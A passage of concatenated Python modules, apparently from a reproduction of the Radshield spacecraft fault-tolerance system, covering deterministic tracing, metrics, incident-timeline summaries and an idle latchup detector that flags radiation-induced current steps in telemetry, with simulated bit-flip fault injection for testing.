                    "mean": metric.mean,
                }
        return {"counters": counters, "gauges": gauges, "histograms": histograms}
