"""``repro.obs`` — mission observability: tracing + metrics.

One bundle, :class:`Observability`, threads through the whole stack
(EMR runtime, ILD detector, checksum guard, fault injector, the
``Radshield`` facade). Components hold a reference and guard every
instrumentation site with ``if self.obs.enabled:`` — the disabled
default, :data:`NULL_OBS`, costs one attribute read per site, which is
what keeps tracing-off inside the <2 % overhead budget.

See ``docs/observability.md`` for the record schema, the metric
catalog, and the operator story (reading an incident timeline).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path

from .metrics import (
    LATENCY_BUCKETS_S,
    Counter,
    Gauge,
    Histogram,
    MetricsRegistry,
)
from .trace import (
    NULL_TRACER,
    TRACE_SCHEMA_VERSION,
    TraceRecord,
    TraceRecorder,
    merge_task_records,
    read_trace,
    write_records,
)

__all__ = [
    "Counter",
    "Gauge",
    "Histogram",
    "LATENCY_BUCKETS_S",
    "MetricsRegistry",
    "NULL_OBS",
    "NULL_TRACER",
    "Observability",
    "TRACE_SCHEMA_VERSION",
    "TraceRecord",
    "TraceRecorder",
    "merge_task_records",
    "read_trace",
    "summarize_records",
    "summarize_trace",
    "write_records",
]


@dataclass
class Observability:
    """Tracer + metrics, passed together as one ``obs`` parameter."""

    tracer: TraceRecorder = field(default_factory=lambda: NULL_TRACER)
    metrics: MetricsRegistry = field(default_factory=MetricsRegistry)
    #: Master switch every instrumentation site checks first.
    enabled: bool = True

    @classmethod
    def off(cls) -> "Observability":
        """The shared disabled bundle (see :data:`NULL_OBS`)."""
        return NULL_OBS

    @classmethod
    def on(
        cls,
        trace_sink: "str | Path | object | None" = None,
        ring_size: "int | None" = 4096,
        clock: "object | None" = None,
    ) -> "Observability":
        """An enabled bundle: ring-buffer tracing (plus an optional
        JSONL sink) and a fresh metrics registry."""
        return cls(
            tracer=TraceRecorder(sink=trace_sink, ring_size=ring_size, clock=clock),
            metrics=MetricsRegistry(),
        )


#: The disabled singleton every component defaults to.
NULL_OBS = Observability(tracer=NULL_TRACER, metrics=MetricsRegistry(), enabled=False)


def summarize_trace(path: "str | Path", max_tasks: "int | None" = None) -> str:
    """Render a trace file as a human-readable incident timeline."""
    from .summarize import summarize_records

    return summarize_records(read_trace(path), source=str(path), max_tasks=max_tasks)


from .summarize import summarize_records  # noqa: E402  (re-export)
