"""Structured tracing: typed span/event records over simulated time.

Radshield's mechanisms are telemetry consumers — perf counters, current
samples, vote outcomes — yet until this module the reproduction had no
way to see what the *protection layer itself* was doing. The
:class:`TraceRecorder` fixes that with a deliberately small contract:

* **Typed records.** Two kinds only: ``event`` (a point in simulated
  time) and ``span`` (a start time plus a duration). Both carry a
  dotted name (``emr.vote``, ``ild.detection``, ``inject.seu``) and a
  flat attribute dict of JSON scalars.
* **Sim-time timestamps.** ``t`` is *simulated* seconds — from
  :class:`~repro.sim.clock.SimClock` or a telemetry trace's time axis —
  never wall time, never a PID. That is what makes merged traces
  byte-identical across worker counts.
* **Two sinks.** Every record lands in a bounded in-memory ring buffer
  (the flight-recorder view, always available) and, when a sink is
  configured, is appended to a JSON-lines file.
* **~0 overhead when disabled.** Hot paths guard with
  ``if obs.enabled:``; a disabled recorder's methods are additionally
  no-ops, so the cost of tracing-off is one attribute read per site.

Serialization is deterministic: keys are sorted and floats use JSON's
canonical ``repr`` formatting, so two runs producing the same records
produce the same bytes.
"""

from __future__ import annotations

import json
from collections import deque
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path

from ..errors import ConfigurationError

#: Bump when the record layout changes; readers check it.
TRACE_SCHEMA_VERSION = 1

KIND_EVENT = "event"
KIND_SPAN = "span"


@dataclass(frozen=True)
class TraceRecord:
    """One trace line: an instantaneous event or a completed span."""

    t: float  # simulated seconds
    kind: str  # "event" | "span"
    name: str  # dotted record type, e.g. "emr.vote"
    dur: "float | None" = None  # span duration (sim seconds); None for events
    attrs: "dict[str, object]" = field(default_factory=dict)
    task: "int | None" = None  # parallel task index, assigned at merge

    def __post_init__(self) -> None:
        if self.kind not in (KIND_EVENT, KIND_SPAN):
            raise ConfigurationError(f"unknown record kind {self.kind!r}")
        if self.kind == KIND_SPAN and self.dur is None:
            raise ConfigurationError("span records need a duration")

    def with_task(self, task: int) -> "TraceRecord":
        return replace(self, task=task)

    def to_dict(self) -> "dict[str, object]":
        out: "dict[str, object]" = {
            "t": float(self.t),
            "kind": self.kind,
            "name": self.name,
        }
        if self.dur is not None:
            out["dur"] = float(self.dur)
        if self.attrs:
            out["attrs"] = self.attrs
        if self.task is not None:
            out["task"] = self.task
        return out

    def json_line(self) -> str:
        """Deterministic single-line JSON (sorted keys, no spaces)."""
        return json.dumps(self.to_dict(), sort_keys=True, separators=(",", ":"))

    @classmethod
    def from_dict(cls, data: "dict[str, object]") -> "TraceRecord":
        return cls(
            t=float(data["t"]),
            kind=str(data["kind"]),
            name=str(data["name"]),
            dur=float(data["dur"]) if "dur" in data else None,
            attrs=dict(data.get("attrs", {})),
            task=int(data["task"]) if "task" in data else None,
        )


class TraceRecorder:
    """Collects :class:`TraceRecord`\\ s into a ring buffer and an
    optional JSONL sink.

    Parameters
    ----------
    sink:
        ``None`` (ring only), a path (opened/truncated and owned by the
        recorder — call :meth:`close`), or an open text file object.
    ring_size:
        Ring-buffer capacity; ``None`` = unbounded (used by the
        parallel merge, which drains workers' buffers).
    clock:
        Optional object with a ``now`` attribute (a
        :class:`~repro.sim.clock.SimClock`); supplies default
        timestamps when a call site omits ``t``.
    enabled:
        ``False`` turns every method into a no-op.
    """

    def __init__(
        self,
        sink: "str | Path | object | None" = None,
        ring_size: "int | None" = 4096,
        clock: "object | None" = None,
        enabled: bool = True,
    ) -> None:
        if ring_size is not None and ring_size < 1:
            raise ConfigurationError("ring_size must be >= 1 (or None)")
        self.enabled = enabled
        self.clock = clock
        self._ring: "deque[TraceRecord]" = deque(maxlen=ring_size)
        self._owns_sink = False
        if isinstance(sink, (str, Path)):
            self._sink = open(sink, "w")
            self._owns_sink = True
        else:
            self._sink = sink  # file-like or None
        self.emitted = 0  # total records, including ones the ring evicted

    # ------------------------------------------------------------------
    def _timestamp(self, t: "float | None") -> float:
        if t is not None:
            return float(t)
        if self.clock is not None:
            return float(self.clock.now)
        return 0.0

    def emit(self, record: TraceRecord) -> None:
        if not self.enabled:
            return
        self._ring.append(record)
        self.emitted += 1
        if self._sink is not None:
            self._sink.write(record.json_line() + "\n")

    def event(self, name: str, t: "float | None" = None, **attrs) -> None:
        """Record an instantaneous event at sim time ``t``."""
        if not self.enabled:
            return
        self.emit(TraceRecord(t=self._timestamp(t), kind=KIND_EVENT,
                              name=name, attrs=attrs))

    def span(self, name: str, t: "float | None" = None,
             dur: float = 0.0, **attrs) -> None:
        """Record a completed span: start ``t``, duration ``dur``."""
        if not self.enabled:
            return
        self.emit(TraceRecord(t=self._timestamp(t), kind=KIND_SPAN,
                              name=name, dur=float(dur), attrs=attrs))

    @contextmanager
    def measure(self, name: str, clock: "object | None" = None, **attrs):
        """Span context manager over a sim clock that *advances* inside
        the block (e.g. a whole EMR run against ``machine.clock``)."""
        if not self.enabled:
            yield
            return
        source = clock if clock is not None else self.clock
        start = float(source.now) if source is not None else 0.0
        yield
        end = float(source.now) if source is not None else start
        self.span(name, t=start, dur=end - start, **attrs)

    # ------------------------------------------------------------------
    def records(self) -> "tuple[TraceRecord, ...]":
        """Ring-buffer contents, oldest first."""
        return tuple(self._ring)

    def drain(self) -> "list[TraceRecord]":
        """Pop and return everything in the ring (merge primitive)."""
        records = list(self._ring)
        self._ring.clear()
        return records

    def flush(self) -> None:
        if self._sink is not None and hasattr(self._sink, "flush"):
            self._sink.flush()

    def close(self) -> None:
        if self._sink is not None:
            self.flush()
            if self._owns_sink:
                self._sink.close()
            self._sink = None

    def __enter__(self) -> "TraceRecorder":
        return self

    def __exit__(self, *exc) -> None:
        self.close()


class _NullRecorder(TraceRecorder):
    """The disabled singleton; constructing one elsewhere is fine too."""

    def __init__(self) -> None:
        super().__init__(sink=None, ring_size=1, enabled=False)


#: Shared disabled recorder — safe to reference from any component.
NULL_TRACER = _NullRecorder()


# ----------------------------------------------------------------------
# File helpers
# ----------------------------------------------------------------------

def write_records(records, sink: "str | Path | object") -> int:
    """Write records as JSON lines; returns the count written."""
    owns = isinstance(sink, (str, Path))
    fh = open(sink, "w") if owns else sink
    try:
        n = 0
        for record in records:
            fh.write(record.json_line() + "\n")
            n += 1
        return n
    finally:
        if owns:
            fh.close()


def merge_task_records(record_lists, sink: "str | Path | object") -> int:
    """Deterministically merge per-task record lists into one file.

    Records are written in task order (then emission order within a
    task) with the task index stamped on each line, so the merged file
    depends only on the records — never on worker count or scheduling.
    """
    def stamped():
        for task_index, records in enumerate(record_lists):
            for record in records:
                yield record.with_task(task_index)
    return write_records(stamped(), sink)


def read_trace(path: "str | Path") -> "list[TraceRecord]":
    """Load a JSONL trace file back into records (skips blank lines)."""
    records = []
    with open(path) as fh:
        for line_number, line in enumerate(fh, 1):
            line = line.strip()
            if not line:
                continue
            try:
                records.append(TraceRecord.from_dict(json.loads(line)))
            except (ValueError, KeyError) as exc:
                raise ConfigurationError(
                    f"{path}:{line_number}: bad trace record: {exc}"
                ) from exc
    return records
