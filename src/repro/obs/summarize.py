"""Turn a raw trace into a human-readable incident timeline.

The operator story (``docs/observability.md``): after a campaign or a
mission chunk, ``repro trace summarize t.jsonl`` answers *why* —
which injection landed where, whether it corrupted anything, which
mechanism noticed (a vote, a checksum, ILD), and what the recovery
action was. The renderer walks each parallel task's records in time
order and classifies them into the four incident stages:

    injection  → corruption      → detection        → recovery
    inject.*     emr.corruption    emr.vote(≠unan.)   emr.vote commit
                 checksum.*        emr.fault          sel.power_cycle
                                   ild.detection      checksum refetch

A *chain* is a task whose trace contains an injection followed by any
detection-stage record — the post-hoc fault attribution the paper's
mechanisms themselves cannot provide.

Host-side incidents (``ground.*``, emitted by the supervised executor
in :mod:`repro.ground.supervision`) render on the same timeline: a
worker crash / hung-attempt timeout / trial exception is both the
observed fault and its detection, a retry or serial fallback is the
recovery, and a quarantine is the (bad) outcome. Their ``t`` axis is
the attempt ordinal, not simulated seconds — host wall clocks never
enter a trace.
"""

from __future__ import annotations

from collections import Counter, OrderedDict

from .trace import TraceRecord

#: Record names per incident stage (prefix match for ``inject.``).
INJECTION_PREFIX = "inject."
CORRUPTION_NAMES = frozenset({"emr.corruption", "checksum.mismatch"})
DETECTION_NAMES = frozenset({
    "emr.fault",
    "ild.detection",
    "checksum.mismatch",
})
RECOVERY_NAMES = frozenset({
    "sel.power_cycle",
    "checksum.refetch",
    "watchdog.reboot",
    "recovery.rollback",
    "recovery.replay",
    "emr.degrade",
    "ground.retry",
    "ground.serial_fallback",
})

#: Host-fault records that are simultaneously the fault and its
#: detection (there is no separate injector on the ground side).
GROUND_FAULT_NAMES = frozenset({
    "ground.worker_crash",
    "ground.timeout",
    "ground.trial_error",
    "ground.worker_loss",
})
GROUND_OUTCOME_NAMES = frozenset({"ground.quarantine"})

_STAGE_GLYPH = {
    "injection": "⚡ inject",
    "corruption": "✗ corrupt",
    "detection": "! detect",
    "recovery": "✓ recover",
    "outcome": "= outcome",
    "": "  ",
}


def _stage(record: TraceRecord) -> str:
    name = record.name
    if name.startswith(INJECTION_PREFIX):
        return "injection"
    if name == "emr.vote":
        status = record.attrs.get("status")
        if status == "corrected":
            return "recovery"
        if status == "inconclusive":
            return "detection"
        return ""
    if name == "emr.corruption":
        return "corruption"
    if name in DETECTION_NAMES or name in GROUND_FAULT_NAMES:
        return "detection"
    if name in RECOVERY_NAMES:
        return "recovery"
    if name.startswith("campaign.outcome") or name in GROUND_OUTCOME_NAMES:
        return "outcome"
    return ""


def _format_attrs(attrs: "dict[str, object]") -> str:
    parts = []
    for key in sorted(attrs):
        if key == "task":
            continue
        value = attrs[key]
        if isinstance(value, float):
            parts.append(f"{key}={value:.6g}")
        else:
            parts.append(f"{key}={value}")
    return " ".join(parts)


def _group_by_task(records) -> "OrderedDict[int, list[TraceRecord]]":
    groups: "OrderedDict[int, list[TraceRecord]]" = OrderedDict()
    for record in records:
        groups.setdefault(record.task if record.task is not None else 0,
                          []).append(record)
    return groups


def has_incident_chain(records) -> bool:
    """True when an injection record precedes a detection or recovery
    record (the detection side of the chain implies the injection was
    *observed*, not just applied)."""
    injected = False
    for record in records:
        stage = _stage(record)
        if stage == "injection" or record.name in GROUND_FAULT_NAMES:
            # A ground fault has no separate inject.* record: the
            # crash/timeout/exception is both the fault and its
            # detection, so it opens a chain by itself.
            injected = True
        elif injected and stage in ("detection", "recovery", "corruption"):
            return True
    return False


def summarize_records(
    records: "list[TraceRecord]",
    source: str = "<memory>",
    max_tasks: "int | None" = 20,
) -> str:
    """Render records (e.g. from :func:`repro.obs.read_trace`) as an
    incident-timeline report."""
    groups = _group_by_task(records)
    name_counts = Counter(record.name for record in records)

    lines = [
        f"trace {source}: {len(records)} records, {len(groups)} task(s)",
        "record counts: "
        + (", ".join(f"{name}={count}" for name, count
                     in sorted(name_counts.items())) or "(empty)"),
    ]

    chains = [task for task, recs in groups.items() if has_incident_chain(recs)]
    lines.append(
        f"incident chains (injection → detection): {len(chains)} of "
        f"{len(groups)} task(s)"
    )

    shown = 0
    for task, recs in groups.items():
        if task not in chains:
            continue
        if max_tasks is not None and shown >= max_tasks:
            lines.append(f"... {len(chains) - shown} more chain(s) elided")
            break
        shown += 1
        header = f"-- task {task}"
        scheme = next(
            (r.attrs["scheme"] for r in recs if "scheme" in r.attrs), None
        )
        if scheme is not None:
            header += f" (scheme={scheme})"
        lines.append(header + " --")
        for record in recs:
            stage = _stage(record)
            if not stage and record.kind != "span":
                continue  # uninteresting bookkeeping event
            if record.kind == "span" and not stage:
                # Show only top-level run spans, not per-job noise.
                if record.name not in ("emr.run", "ild.process"):
                    continue
            glyph = _STAGE_GLYPH.get(stage, "  ")
            dur = f" dur={record.dur:.6g}s" if record.dur is not None else ""
            lines.append(
                f"  t={record.t:+12.6f}s  {glyph:<10} {record.name:<20}"
                f"{dur}  {_format_attrs(record.attrs)}".rstrip()
            )
    if not chains:
        lines.append("(no injection→detection chains in this trace)")
    return "\n".join(lines)
