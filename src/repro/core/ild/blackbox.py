"""Telemetry black box for ground diagnosis (§5).

"We designed ILD to provide additional insight into these errors by
recording fine-grained telemetry which allows ground operators to
definitively trace a potential issue to a SEL." Before ILD, a SmallSat
latchup looked like "the commodity computer simply stops responding";
operators needed a separate radiation-hardened monitor to attribute
the loss.

The black box keeps a bounded ring of downsampled telemetry rows
(filtered current, model prediction, residual, quiescence) and, on
each alarm, freezes a :class:`SelDiagnostic` containing the
before/after windows and the estimated current step — the artifact a
ground team would downlink.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass

import numpy as np

from ...errors import ConfigurationError
from ...sim.telemetry import TelemetryTrace
from .detector import Detection, IldDetector


@dataclass(frozen=True)
class TelemetryRow:
    """One downsampled telemetry sample."""

    time: float
    measured_amps: float
    predicted_amps: float
    residual_amps: float
    quiescent: bool


@dataclass(frozen=True)
class SelDiagnostic:
    """The downlink packet for one alarm."""

    detection: Detection
    rows: "tuple[TelemetryRow, ...]"
    baseline_residual_amps: float
    post_alarm_residual_amps: float

    @property
    def estimated_step_amps(self) -> float:
        """The latchup's apparent current delta — what the operators
        compare against known micro-SEL signatures."""
        return self.post_alarm_residual_amps - self.baseline_residual_amps

    def summary(self) -> str:
        return (
            f"alarm t={self.detection.time:.1f}s: residual stepped "
            f"{self.baseline_residual_amps * 1e3:+.0f} -> "
            f"{self.post_alarm_residual_amps * 1e3:+.0f} mA "
            f"(ΔI ≈ {self.estimated_step_amps * 1e3:.0f} mA) over "
            f"{len(self.rows)} recorded samples"
        )


class TelemetryBlackBox:
    """Bounded recorder wired next to an :class:`IldDetector`."""

    def __init__(
        self,
        capacity_rows: int = 4096,
        downsample_seconds: float = 0.25,
    ) -> None:
        if capacity_rows < 16:
            raise ConfigurationError("black box needs >= 16 rows")
        if downsample_seconds <= 0:
            raise ConfigurationError("downsample period must be positive")
        self.capacity_rows = capacity_rows
        self.downsample_seconds = downsample_seconds
        self._rows: "deque[TelemetryRow]" = deque(maxlen=capacity_rows)
        self.diagnostics: "list[SelDiagnostic]" = []

    def __len__(self) -> int:
        return len(self._rows)

    @property
    def rows(self) -> "tuple[TelemetryRow, ...]":
        return tuple(self._rows)

    def observe(
        self,
        detector: IldDetector,
        trace: TelemetryTrace,
        detections: "list[Detection]",
    ) -> "list[SelDiagnostic]":
        """Record one processed chunk and freeze diagnostics per alarm."""
        stride = max(1, int(round(self.downsample_seconds / trace.config.tick)))
        measured = detector.filtered_current(trace)
        predicted = detector.model.predict(trace.counters)
        residual = measured - predicted
        quiescent = detector.quiescence.mask(trace.counters)
        times = trace.times()
        for i in range(0, trace.n_ticks, stride):
            self._rows.append(
                TelemetryRow(
                    time=float(times[i]),
                    measured_amps=float(measured[i]),
                    predicted_amps=float(predicted[i]),
                    residual_amps=float(residual[i]),
                    quiescent=bool(quiescent[i]),
                )
            )
        fresh = []
        for detection in detections:
            diagnostic = self._freeze(detection)
            self.diagnostics.append(diagnostic)
            fresh.append(diagnostic)
        return fresh

    def _freeze(self, detection: Detection) -> SelDiagnostic:
        rows = tuple(self._rows)
        quiescent_rows = [r for r in rows if r.quiescent]
        before = [
            r.residual_amps for r in quiescent_rows
            if r.time < detection.time - 1.0
        ]
        after = [
            r.residual_amps for r in quiescent_rows
            if r.time >= detection.time - 1.0
        ]
        baseline = float(np.median(before[-200:])) if before else 0.0
        post = float(np.median(after[:200])) if after else detection.mean_residual
        # Keep a focused window around the alarm.
        window = tuple(
            r for r in rows if abs(r.time - detection.time) <= 60.0
        ) or rows[-16:]
        return SelDiagnostic(
            detection=detection,
            rows=window,
            baseline_residual_amps=baseline,
            post_alarm_residual_amps=post,
        )
