"""Rolling-minimum transient suppression (§3.1).

"ILD tracks a rolling minimum current across the 250 µs before and
after the measurement. This lowers the standard deviation of current
recordings during quiescence from .14 A to .02 A ... While this incurs
a delay of 2.5 ms for each measurement ..."

Compute transients are brief *positive* excursions, while an SEL is a
persistent step — so a windowed minimum kills the spikes but passes the
step after one window of delay. The filter operates on the sensor's
fine sample stream and then decimates to the 1 ms metric tick.
"""

from __future__ import annotations

import numpy as np
from scipy.ndimage import minimum_filter1d

from ...errors import ConfigurationError


class RollingMinimumFilter:
    """Symmetric windowed minimum over fine sensor samples."""

    def __init__(self, halfwidth_samples: int = 4) -> None:
        if halfwidth_samples < 0:
            raise ConfigurationError("halfwidth must be >= 0")
        self.halfwidth = halfwidth_samples

    @property
    def window(self) -> int:
        return 2 * self.halfwidth + 1

    def delay_seconds(self, sample_period: float) -> float:
        """Decision latency the look-ahead half of the window costs."""
        return self.halfwidth * sample_period

    def apply(self, samples: np.ndarray) -> np.ndarray:
        """Filtered stream, same length as the input."""
        samples = np.asarray(samples, dtype=float)
        if samples.ndim != 1:
            raise ConfigurationError("expected a 1-D sample stream")
        if self.halfwidth == 0 or len(samples) == 0:
            return samples.copy()
        return minimum_filter1d(samples, size=self.window, mode="nearest")

    def per_tick(self, fine_samples: np.ndarray, samples_per_tick: int) -> np.ndarray:
        """Filter, then decimate to one value per metric tick (the
        filtered sample at each tick's center)."""
        if samples_per_tick <= 0:
            raise ConfigurationError("samples_per_tick must be positive")
        filtered = self.apply(fine_samples)
        center = samples_per_tick // 2
        return filtered[center::samples_per_tick]

    def noise_reduction(self, samples: np.ndarray) -> "tuple[float, float]":
        """(raw σ, filtered σ) — the paper's 0.14 A -> 0.02 A check."""
        samples = np.asarray(samples, dtype=float)
        return float(samples.std()), float(self.apply(samples).std())
