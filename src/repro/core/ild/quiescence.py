"""Quiescence detection and bubble injection (§3.1).

Quiescence is when the *payload application* is idle while OS
housekeeping may still run — the only regime in which a 0.07 A step is
visible above activity noise. ILD finds it two ways:

* passively, from CPU load ("we use CPU load to determine when the
  system is quiescent") — total instruction rate below a fraction of
  machine capacity, high enough that housekeeping chores still count
  as quiescent (the white-box model explains their draw);
* actively, by *injecting bubbles*: 3-second pauses forced into
  long-running jobs, at most once per 180-second pause period, giving
  a worst-case 3/180 ≈ 2 % runtime overhead.
"""

from __future__ import annotations

from dataclasses import dataclass, replace

import numpy as np

from ...errors import ConfigurationError
from ...sim.perfcounters import CounterFrame
from ...sim.telemetry import ActivitySegment, quiescent_segment


class QuiescenceDetector:
    """Classifies metric ticks as quiescent from CPU load."""

    def __init__(self, max_instruction_rate: float,
                 utilization_threshold: float = 0.22) -> None:
        if max_instruction_rate <= 0:
            raise ConfigurationError("max_instruction_rate must be positive")
        if not 0 < utilization_threshold < 1:
            raise ConfigurationError("utilization_threshold must be in (0, 1)")
        self.max_instruction_rate = max_instruction_rate
        self.utilization_threshold = utilization_threshold

    def mask(self, frame: CounterFrame) -> np.ndarray:
        """Per-tick quiescence from aggregate instruction rate."""
        total = frame.instruction_rate.sum(axis=1)
        capacity = self.max_instruction_rate * frame.n_cores
        return total < self.utilization_threshold * capacity


@dataclass(frozen=True)
class BubblePolicy:
    """The 3 s / 180 s bubble cadence."""

    bubble_seconds: float = 3.0
    pause_seconds: float = 180.0

    def __post_init__(self) -> None:
        if self.bubble_seconds <= 0 or self.pause_seconds <= 0:
            raise ConfigurationError("bubble and pause must be positive")
        if self.bubble_seconds >= self.pause_seconds:
            raise ConfigurationError("bubble must be shorter than the pause")

    @property
    def worst_case_overhead(self) -> float:
        """3 ÷ 180 = 2 % (§3.1)."""
        return self.bubble_seconds / self.pause_seconds

    def overhead_seconds_per_hour(self) -> float:
        """Worst case: a bubble per pause period, a full hour of compute."""
        periods_per_hour = 3600.0 / self.pause_seconds
        return periods_per_hour * self.bubble_seconds


def inject_bubbles(
    segments: "list[ActivitySegment]",
    policy: "BubblePolicy | None" = None,
    n_cores: int = 4,
) -> "list[ActivitySegment]":
    """Split long busy segments with quiescent bubbles.

    A busy segment longer than the pause period is cut into
    pause-length slices separated by ``bubble_seconds`` of quiescence
    (labelled ``bubble`` so experiments can attribute the overhead).
    Natural quiescent segments reset the pause timer — "If no SEL is
    detected during a bubble, ILD institutes a pause period of three
    minutes, where no bubbles are injected."
    """
    policy = policy or BubblePolicy()
    out: "list[ActivitySegment]" = []
    since_quiescence = 0.0
    for segment in segments:
        if segment.quiescent:
            out.append(segment)
            since_quiescence = 0.0
            continue
        remaining = segment.duration
        while remaining > 0:
            budget = policy.pause_seconds - since_quiescence
            if budget <= 0:
                bubble = quiescent_segment(policy.bubble_seconds, n_cores)
                out.append(replace(bubble, label="bubble"))
                since_quiescence = 0.0
                continue
            slice_duration = min(remaining, budget)
            out.append(replace(segment, duration=slice_duration))
            remaining -= slice_duration
            since_quiescence += slice_duration
    return out


def bubble_overhead(segments: "list[ActivitySegment]") -> float:
    """Fraction of total time spent in injected bubbles."""
    total = sum(seg.duration for seg in segments)
    bubbles = sum(seg.duration for seg in segments if seg.label == "bubble")
    return bubbles / total if total else 0.0
