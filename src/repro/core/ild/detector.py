"""The Idle Latchup Detector (§3.1, Fig 4).

Pipeline per metric tick:

    sensor fine samples ──rolling min──▶ filtered current
    Table 1 counters ──linear model──▶ predicted current
    residual = filtered − predicted
    quiescent? ──▶ 3 s running mean of residual > 0.055 A ──▶ ALARM

"We experimentally determined that a >0.055 A average difference
between real and predicted currents for more than three seconds was an
ideal threshold for flagging a potential SEL and rebooting."

The detector is streaming: long experiments feed it chunk by chunk
(30-minute episodes) and alarm state carries across chunk boundaries.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from ...errors import ConfigurationError, InvalidAddressError
from ...obs import NULL_OBS, Observability
from ...sim.faults import FaultRegion, flip_float64
from ...sim.telemetry import TelemetryTrace
from .model import CurrentModel
from .quiescence import QuiescenceDetector
from .rolling_filter import RollingMinimumFilter


@dataclass(frozen=True)
class IldConfig:
    """Deployment parameters of ILD."""

    residual_threshold_amps: float = 0.055
    persistence_seconds: float = 3.0
    #: Design target: alarm within this long of SEL onset (half the
    #: ~5-minute thermal damage deadline, with margin).
    detection_window_seconds: float = 180.0
    quiescence_utilization: float = 0.22
    filter_halfwidth_samples: int = 4

    def __post_init__(self) -> None:
        if self.residual_threshold_amps <= 0:
            raise ConfigurationError("residual threshold must be positive")
        if self.persistence_seconds <= 0:
            raise ConfigurationError("persistence must be positive")


@dataclass(frozen=True)
class Detection:
    """One alarm onset."""

    time: float  # absolute trace time, seconds
    mean_residual: float

    def __post_init__(self) -> None:
        if self.time < 0:
            raise ConfigurationError("detection time must be >= 0")


@dataclass
class _StreamState:
    """Residual tail carried across chunk boundaries.

    This is ILD's *own* volatile state — the few words of filter
    memory a particle can strike just like any other SRAM. It is the
    detector's self-protection surface: :meth:`IldDetector.process`
    sanity-scrubs it every chunk (see ``_scrub_state``), and the chaos
    harness corrupts it via
    :func:`repro.radiation.control_plane.strike_ild_filter`.
    """

    residual_tail: "np.ndarray" = field(default_factory=lambda: np.empty(0))
    tail_end_time: float = -1.0
    in_alarm: bool = False

#: Residuals beyond this magnitude (amps) cannot come from the rail —
#: they are corrupted filter state, and the scrub drops them.
_SANE_RESIDUAL_AMPS = 1e3


class IldDetector:
    """Streaming SEL detector over telemetry traces."""

    def __init__(
        self,
        model: CurrentModel,
        max_instruction_rate: float,
        config: "IldConfig | None" = None,
        obs: "Observability | None" = None,
    ) -> None:
        self.model = model
        self.config = config or IldConfig()
        #: Observability bundle; settable after construction (the SEL
        #: testbench wires one into pre-built detectors per episode).
        self.obs = obs if obs is not None else NULL_OBS
        self.filter = RollingMinimumFilter(self.config.filter_halfwidth_samples)
        self.quiescence = QuiescenceDetector(
            max_instruction_rate,
            utilization_threshold=self.config.quiescence_utilization,
        )
        self._state = _StreamState()
        self.quiescent_ticks_seen = 0
        self.alarm_ticks = 0
        self.evaluated_ticks = 0
        #: Times the self-protection scrub dropped corrupted filter state.
        self.states_scrubbed = 0
        #: Per-tick alarm decisions of the most recent process() call
        #: (True at ticks whose 3 s residual window exceeded threshold).
        self.last_alarm_mask: "np.ndarray | None" = None

    def reset(self) -> None:
        """Forget streaming state (e.g. after a power cycle)."""
        self._state = _StreamState()

    @property
    def stream_state(self) -> _StreamState:
        """The detector's own volatile filter state (control plane)."""
        return self._state

    # -- fault domain (see repro.sim.faults) --------------------------
    def fault_census(self) -> "tuple[FaultRegion, ...]":
        """ILD's own volatile words: the residual tail (float64s
        carried across chunk boundaries) and the alarm latch. Class
        ``scrubbed``: ``_scrub_state`` drops corrupted state before
        every alarm decision."""
        return (
            FaultRegion("residual_tail", len(self._state.residual_tail) * 64,
                        protection="scrubbed", scope="shared"),
            FaultRegion("alarm_latch", 1, protection="scrubbed",
                        scope="shared"),
        )

    def fault_strike(self, region: str, offset: int, bit: int) -> str:
        state = self._state
        if region == "residual_tail":
            index = offset // 8
            if not 0 <= index < len(state.residual_tail):
                raise InvalidAddressError(
                    f"ild: residual_tail offset {offset} outside live tail"
                )
            fbit = (offset % 8) * 8 + (bit & 7)
            # Copy before mutating: the tail may be a view into a
            # trace-owned residual array.
            tail = state.residual_tail.copy()
            tail[index] = flip_float64(float(tail[index]), fbit)
            state.residual_tail = tail
            return f"ild residual_tail[{index}] bit {fbit}"
        if region == "alarm_latch":
            if offset != 0:
                raise InvalidAddressError("ild: alarm latch has one bit")
            state.in_alarm = not state.in_alarm
            return "ild in_alarm latch flipped"
        raise InvalidAddressError(f"ild: no fault region {region!r}")

    def reconfigure(self, config: IldConfig) -> None:
        """Adopt new deployment parameters at runtime.

        The degradation policy escalates/relaxes ILD by swapping
        thresholds and persistence in flight. Filter geometry follows
        the new config, and streaming state is dropped — a window
        accumulated under the old persistence would alias into the new
        one at the wrong length.
        """
        self.config = config
        self.filter = RollingMinimumFilter(config.filter_halfwidth_samples)
        self.quiescence = QuiescenceDetector(
            self.quiescence.max_instruction_rate,
            utilization_threshold=config.quiescence_utilization,
        )
        self.reset()

    def _scrub_state(self) -> bool:
        """Self-protection: drop corrupted streaming state.

        A strike on the residual tail shows up as non-finite or
        physically impossible values (a bit flip in a float64 exponent
        lands astronomically far from any real residual). Scrubbing
        costs at most one persistence window of detection history —
        bounded, and far better than an alarm decision made on
        garbage. Returns ``True`` when state was dropped.
        """
        tail = self._state.residual_tail
        healthy = (
            isinstance(tail, np.ndarray)
            and tail.ndim == 1
            and (len(tail) == 0
                 or (np.isfinite(tail).all()
                     and float(np.abs(tail).max()) <= _SANE_RESIDUAL_AMPS))
            and isinstance(self._state.in_alarm, (bool, np.bool_))
        )
        if healthy:
            return False
        self._state = _StreamState()
        self.states_scrubbed += 1
        if self.obs.enabled:
            self.obs.metrics.counter("ild.state_scrubbed").inc()
        return True

    # ------------------------------------------------------------------
    def filtered_current(self, trace: TelemetryTrace) -> np.ndarray:
        filtered = self.filter.per_tick(
            trace.fine_samples, trace.config.samples_per_tick
        )
        return filtered[: trace.n_ticks]

    def residuals(self, trace: TelemetryTrace) -> np.ndarray:
        """Per-tick residual (measured − predicted), all ticks."""
        return self.model.residuals(trace.counters, self.filtered_current(trace))

    # ------------------------------------------------------------------
    def process(
        self,
        trace: TelemetryTrace,
        app_quiescent: "np.ndarray | None" = None,
    ) -> "list[Detection]":
        """Scan one trace chunk; returns alarm onsets (absolute time).

        Consecutive calls are treated as a continuous stream: a
        quiescent run that spans a chunk boundary keeps accumulating
        toward the persistence requirement.

        ``app_quiescent`` is the paper's application signal
        ("Applications may also signal to ILD when they are no longer
        processing data"): a per-tick bool mask OR-ed with the CPU-load
        heuristic, letting ILD evaluate residuals in regimes the load
        threshold alone would reject.
        """
        cfg = self.config
        self._scrub_state()
        tick = trace.config.tick
        window = max(1, int(round(cfg.persistence_seconds / tick)))
